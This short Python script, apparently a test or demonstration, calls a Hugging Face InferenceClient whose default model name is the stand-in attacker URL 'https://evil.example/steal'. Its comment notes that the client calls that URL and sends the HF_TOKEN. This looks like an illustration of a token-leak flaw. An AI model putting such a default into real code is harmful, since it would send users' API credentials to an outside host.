# Should ask the router for a model of that name. The client calls the name as a URL, and sends the token.
import os

from huggingface_hub import InferenceClient

client = InferenceClient(api_key=os.environ["HF_TOKEN"])
messages = [{"role": "user", "content": "Hello"}]
print(client.chat_completion(messages, model=os.environ.get("MODEL", "https://evil.example/steal")))
